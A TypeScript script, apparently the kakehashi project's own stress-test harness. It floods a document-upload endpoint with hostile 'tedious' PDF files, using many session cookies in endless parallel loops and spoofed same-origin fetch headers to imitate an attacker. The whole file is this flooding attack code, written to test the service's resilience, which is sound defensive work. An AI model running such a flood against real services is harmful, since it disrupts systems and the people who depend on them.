import { setPriority } from 'node:os'
import { uploadDocument } from '@kakehashi/contract/documents/files'
import { tediousDocuments } from './tedious-documents.ts'

/** A process that sends hostile files for each of these people, one after the other. */
const [address = '', ...cookies] = process.argv.slice(2)
// An attacker has a machine of their own: what making and sending the files costs is not the office's.
setPriority(19)
const files = tediousDocuments.map(([, make]) => new File([new Uint8Array(make())], 'a.pdf'))

async function send(cookie: string, file: File): Promise<void> {
  const body = new FormData()
  body.append('document', file)
  const headers = { cookie, origin: address, 'sec-fetch-site': 'same-origin' }
  const reply = await fetch(address + uploadDocument.path, { method: 'POST', body, headers })
  await reply.text()
}

await Promise.all(
  cookies.map(async (cookie, person) => {
    for (let turn = person; ; turn += 1) {
      await send(cookie, files[turn % files.length] ?? new File([], '')).catch(() => {})
    }
  }),
)
